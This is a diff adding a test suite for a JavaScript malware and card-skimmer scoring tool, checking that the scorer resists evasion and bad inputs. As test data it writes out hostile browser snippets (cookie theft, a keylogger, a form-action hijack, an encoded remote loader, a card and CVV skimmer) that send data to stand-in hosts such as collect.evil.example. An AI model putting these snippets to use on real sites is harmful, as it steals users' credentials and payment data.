@@ -1,0 +1,304 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { MALICIOUS_BELOW, type ScriptVerdict, scoreScript } from './index.ts'
+import { MAX_SCORED_LENGTH } from './limits.ts'
+import { HONEST_CASES } from './honest-scripts.cases.ts'
+import { SCRIPT_CASES, SKIMMER } from './score-script.cases.ts'
+
+const NAMES = [
+  'js_integrity_score',
+  'obfuscation_score',
+  'dataflow_score',
+  'malware_score',
+  'cryptomining_score',
+  'magecart_score',
+] as const
+
+/** All six scores, or none and the reason. */
+function expectWhole({ scores, unscored, reasons }: ScriptVerdict): void {
+  if (scores === null) {
+    expect(reasons).toEqual([])
+    return expect(['long', 'deep', 'none']).toContain(unscored)
+  }
+  for (const name of NAMES) {
+    const score = scores[name]
+    expect(Number.isInteger(score) && Number(score) >= 1 && Number(score) <= 99, `${name}: ${score}`).toBe(
+      true,
+    )
+  }
+  for (const { score, found } of reasons) {
+    expect(NAMES).toContain(score)
+    expect((found ?? '').length).toBeLessThanOrEqual(300)
+  }
+}
+
+test.each(SCRIPT_CASES)('$name', ({ source, head: scriptClass }) => {
+  const verdict = scoreScript(source)
+  expectWhole(verdict)
+  const integrity = verdict.scores?.js_integrity_score ?? 0
+  if (scriptClass === null) {
+    expect(integrity).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+    expect(verdict.reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
+  } else {
+    expect(verdict.unscored).toBeNull()
+    expect(integrity).toBeLessThan(MALICIOUS_BELOW)
+    expect(verdict.scores?.[`${scriptClass}_score`]).toBe(integrity)
+    // Every verdict has a reason.
+    expect(verdict.reasons.some(({ score }) => score === `${scriptClass}_score`)).toBe(true)
+  }
+})
+
+test.each(HONEST_CASES)('honest: $name', ({ source, sign }) => {
+  const { scores, reasons } = scoreScript(source)
+  expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+  expect(reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
+  expect(reasons.filter(({ kind }) => kind === 'sign').map(({ name }) => name)).toEqual(
+    sign === undefined ? [] : [sign],
+  )
+})
+
+test.each<[string, before: string, behind?: string]>([
+  ['a comment of markup', '<!-- x\n'],
+  ['a comment of markup around it', '<!--\n', '\n-->'],
+  ['a comment of markup before a line of its own', '<!--\n', '\n//-->'],
+  ['a mark of byte order', '\uFEFF'],
+  ['a pattern with flags of its own', '/(?i:a)b/;'],
+  ['a pattern with a group of two', '/(?<a>x)|(?<a>y)/;'],
+  ['a pattern with sets', '/[\\p{L}--[a-z]]/v;'],
+  ['comments to the limit', '/*', `*/${'/*x*/\n'.repeat(60_000)}`],
+  ['a long comment', `/*${'x'.repeat(MAX_SCORED_LENGTH)}*/`],
+  ['spaces', ' \n'.repeat(MAX_SCORED_LENGTH)],
+  ['spaces behind', '', '\n'.repeat(MAX_SCORED_LENGTH)],
+  ['a text that would have been markup', `'<!-- <div>';`],
+])('the scorer cannot be disabled by %s', (_, before, behind = '') => {
+  const source = before === '/*' ? `/*x${behind}${SKIMMER}` : `${before}${SKIMMER}${behind}`
+  expect(scoreScript(source).scores?.magecart_score ?? 99).toBeLessThan(MALICIOUS_BELOW)
+})
+
+test.each([
+  ['blocks', '{', '}'],
+  ['parentheses', '(', ')'],
+  ['branches', 'if(a){', '}'],
+  ['functions', '!function(){', '}()'],
+])('content within many %s is analyzed', (_, open, close) => {
+  const depth = 240
+  const middle = open === '(' ? `function(){${SKIMMER}}()` : SKIMMER
+  const source = open.repeat(depth) + middle + close.repeat(depth)
+  expect(scoreScript(source).scores?.js_integrity_score ?? 99).toBeLessThan(MALICIOUS_BELOW)
+})
+
+test.each<[string, string, unscored: 'deep' | 'none']>([
+  ['parentheses', `${'('.repeat(50_000)}1${')'.repeat(50_000)};${SKIMMER}`, 'deep'],
+  ['branches', `if(0);${'else if(0);'.repeat(25_000)}${SKIMMER}`, 'deep'],
+  ['blocks', `${'{'.repeat(50_000)}${'}'.repeat(50_000)}var a=1`, 'deep'],
+  ['a page without scripts', '<!doctype html><title>404</title><p>Not found</p>', 'none'],
+  ['a comment and nothing else', '<!-- gone -->', 'none'],
+  ['words', 'Not Found', 'none'],
+  ['half a script', 'function a(){ return [', 'none'],
+  ['a style', 'a { color: red }', 'none'],
+])('unparsable text is not therefore harmless: %s', (_, source, unscored) => {
+  expect(scoreScript(source)).toEqual({ scores: null, unscored, reasons: [] })
+})
+
+test('the visible parts of unparsable text can be enough', () => {
+  expect(scoreScript(`unescape("%u9090%u9090%u9090"); }`).scores?.malware_score).toBe(4)
+})
+
+test('a malicious verdict names the rule and what it found', () => {
+  const { reasons } = scoreScript(`new Image().src='//a.example/?c='+document.cookie`)
+  expect(reasons.find(({ kind }) => kind === 'rule')).toEqual({
+    score: 'malware_score',
+    kind: 'rule',
+    name: 'cookie-leaves',
+    description: 'sends all cookies to another host',
+    found: 'cookie to //a.example/?c= by image',
+    weight: null,
+  })
+})
+
+describe('a session recorder', () => {
+  const recorder = (value: string, more = ''): string =>
+    `(function(){var q=[];new MutationObserver(function(m){q.push({t:Date.now(),n:m.length})}).observe(document,{subtree:true});['mousemove','scroll','click'].forEach(function(k){addEventListener(k,function(e){q.push({t:Date.now(),k:k,x:e.clientX})})});addEventListener('input',function(e){var n=e.target;q.push({t:Date.now(),v:${value}})},true);${more}setInterval(function(){if(q.length)navigator.sendBeacon('https://in.replay.example/v1',JSON.stringify(q.splice(0)))},5000)})()`
+  const MASKED = `n.type==='password'||/cc-|card/.test(n.autocomplete)?'*'.repeat(n.value.length):n.value`
+
+  test('is recognized and not condemned if it leaves out secrets', () => {
+    const { scores, reasons } = scoreScript(recorder(MASKED))
+    expect(reasons.find(({ name }) => name === 'session-recorder')).toMatchObject({
+      score: 'dataflow_score',
+      kind: 'practice',
+      found: expect.stringContaining('https://in.replay.example/v1'),
+    })
+    expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+    expect(reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
+  })
+
+  test.each([
+    ['leaves nothing out', recorder('n.value')],
+    [
+      'asks for the card itself',
+      recorder(
+        MASKED,
+        `setInterval(function(){new Image().src='https://in.replay.example/i?c='+document.querySelector('#cc_number').value},900);`,
+      ),
+    ],
+    ['hides from tools', recorder(MASKED, 'if(outerWidth-innerWidth>160)return;')],
+  ])('is not recognized if it %s', (_, source) => {
+    expect(scoreScript(source).reasons.map(({ name }) => name)).not.toContain('session-recorder')
+  })
+
+  test('that reads the card itself is condemned', () => {
+    const requests = `document.querySelector('#pay').onclick=function(){new Image().src='https://in.replay.example/i?c='+btoa(document.querySelector('#cc_number').value)};`
+    expect(scoreScript(recorder(MASKED, requests)).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+  })
+})
+
+const DEAD_CODE: readonly (readonly [string, (hostile: string) => string])[] = [
+  ['statements before it', (hostile) => `${'var a=1;a=a*2+1;if(a>1e9){a=0}'.repeat(300)}${hostile}`],
+  [
+    'functions before it',
+    (hostile) =>
+      Array.from({ length: 400 }, (_, i) => `function f${i}(a,b){return a*${i}+b-Math.max(a,b)}`).join('\n') +
+      `\n${hostile}`,
+  ],
+  [
+    'functions around it, in one statement',
+    (hostile) =>
+      `(function(){${Array.from({ length: 400 }, (_, i) => `var f${i}=function(a){return a.concat([${i}])};`).join('')}${hostile};${Array.from({ length: 200 }, (_, i) => `function g${i}(a){return a-${i}}`).join('')}})()`,
+  ],
+]
+const SHORT_HOSTILES: readonly (readonly [string, string])[] = [
+  ['all cookies', `new Image().src='//a.example/?c='+document.cookie`],
+  [
+    'keys',
+    `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`,
+  ],
+  ['fields of a checkout', SKIMMER],
+  [
+    'a form given another address',
+    `var f=document.forms[0];f.onsubmit=function(){var a=this.action;this.action='https://p.example.net/';setTimeout(function(){f.action=a},9)}`,
+  ],
+  [
+    'a loader that hides its host',
+    `if(document.referrer&&/Windows/.test(navigator.userAgent)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUubmV0L3guanM=');document.head.appendChild(s)}`,
+  ],
+]
+test.each(
+  DEAD_CODE.flatMap(([padding, pad]) =>
+    SHORT_HOSTILES.map(([name, hostile]) => [name, padding, pad(hostile)] as const),
+  ),
+)('%s: not hidden by %s', (_, __, source) => {
+  expect(scoreScript(source).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+})
+
+test.each(DEAD_CODE)('%s: no single part is hostile', (_, pad) => {
+  const { scores, reasons } = scoreScript(pad('document.title="x"'))
+  expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+  expect(reasons.filter(({ kind }) => kind === 'rule' || kind === 'sign')).toEqual([])
+})
+
+test('data sent to an own host does not leave', () => {
+  const source = `fetch('https://api.shop.example/card',{method:'POST',body:document.querySelector('#cc_number').value})`
+  expect(scoreScript(source, { ownHosts: ['shop.example'] }).scores?.dataflow_score).toBe(99)
+  expect(scoreScript(source).scores?.dataflow_score).toBeLessThan(10)
+  // A host with only the same ending is another one.
+  expect(scoreScript(source, { ownHosts: ['op.example'] }).scores?.dataflow_score).toBeLessThan(10)
+})
+
+test.each([
+  ['at the limit', MAX_SCORED_LENGTH, null],
+  ['one past it', MAX_SCORED_LENGTH + 1, 'long'],
+])('a script %s', (_, length, unscored) => {
+  const verdict = scoreScript(`a='${'x'.repeat(length - 4)}'`)
+  expectWhole(verdict)
+  expect(verdict.unscored).toBe(unscored)
+})
+
+test.each([
+  ['brackets within brackets', '['.repeat(100_000)],
+  ['whole brackets within brackets', `${'['.repeat(20_000)}${']'.repeat(20_000)}`],
+  ['a long sum', `x=${'a+'.repeat(60_000)}a`],
+  ['a loop without end', 'for(;;){}'],
+  ['a loop of loops', 'while(1){while(1){a+=a}}'],
+  ['calls without end', 'function f(){f();f()}f()'],
+  ['a text that doubles', `var a='x';for(;;)a+=a;`],
+  ['an array that grows', 'var a=[];for(;;)a.push(a)'],
+  ['an array in itself', 'var a=[];a[0]=a;x=a+"";new Image().src=a'],
+  ['code that evaluates itself', `var s="eval(s)";eval(s)`],
+  ['code that writes code', `var s='';for(var i=0;i<99;i++){s='eval('+JSON.stringify(s+i)+')';eval(s)}`],
+  ['a pattern that would not end', `'${'a'.repeat(5000)}'.replace(/(a+)+$/,'')`],
+  ['many handlers', `${'x.onclick=function(){x.onclick=function(){}};'.repeat(5000)}`],
+  [
+    'prototype names',
+    `var o={};o.__proto__.x=1;o.constructor.constructor('a')();({})['toString']();''.constructor()`,
+  ],
+  ['octets', String.fromCharCode(...Array.from({ length: 5000 }, (_, i) => i % 256))],
+  ['tags without end', '<script>'.repeat(20_000)],
+  ['tags that do not even begin', '<script '.repeat(37_000)],
+  ['quotes that nothing closes', '<a b="'.repeat(40_000)],
+  ['quotes before quotes', '"\\'.repeat(100_000)],
+  ['a long list as a text, again and again', `var a=[];for(var i=0;i<9999;i++)a.push(x);for(;;)b=a+''`],
+  ['lists of lists of lists as a text', `var a=[1,2,3,4,5,6,7,8,9];for(;;){a=[a,a,a,a,a,a,a,a];b=a+''}`],
+  ['escapes, again and again', `var a='${'%41'.repeat(60_000)}';for(;;)unescape(a)`],
+  ['long texts for a stranger', `var a='${'ab'.repeat(99_000)}';for(var i=0;;i++)x(a+i)`],
+  ['long layers', `var a='${'a;'.repeat(99_000)}';for(var i=0;;i++)eval(a+i)`],
+  ['many texts', `x=[${Array.from({ length: 30_000 }, (_, i) => `"t${i}"`).join()}]`],
+])('%s ends', (_, source) => {
+  expectWhole(scoreScript(source))
+})
+
+test.each([
+  ['match', `'${'a'.repeat(250_000)}'.match(/a+b/);`],
+  ['replace', `'${'a'.repeat(250_000)}'.replace(/a*b/g,'');`],
+  ['split', `'${'a'.repeat(250_000)}'.split(/a+$/);`],
+])('a pattern that scans its text again and again hides nothing: %s', (_, pattern) => {
+  const skimmer = `document.querySelector('form').addEventListener('submit',function(){var n=document.querySelector('#card_number').value,c=document.querySelector('#cvv').value;new Image().src='https://collect.evil.example/g.php?d='+btoa(n+'|'+c)})`
+  const { scores } = scoreScript(pattern + skimmer)
+  expect(scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+})
+
+test('any text gets complete scores', () => {
+  const chunks = fc.constantFrom(
+    'var a=',
+    'function(){',
+    '}',
+    '(',
+    ')',
+    '[',
+    ']',
+    'eval',
+    'atob',
+    '"x"',
+    '.src=',
+    'document',
+    '.cookie',
+    '+',
+    ';',
+    'if(',
+    'for(;;)',
+    '<script>',
+    'new ',
+    'this',
+    '`${',
+    '`',
+    '=>',
+    '%41',
+    '\\x41',
+    'a',
+    '1',
+    ',',
+  )
+  const strings = fc.oneof(
+    fc.string({ maxLength: 300 }),
+    fc.array(chunks, { maxLength: 60 }).map((parts) => parts.join('')),
+  )
+  fc.assert(
+    fc.property(strings, (text) => {
+      expectWhole(scoreScript(text))
+    }),
+    { numRuns: 300 },
+  )
+})
+
+test('the same text gets the same verdict', () => {
+  for (const { source } of SCRIPT_CASES) expect(scoreScript(source)).toEqual(scoreScript(source))
+})
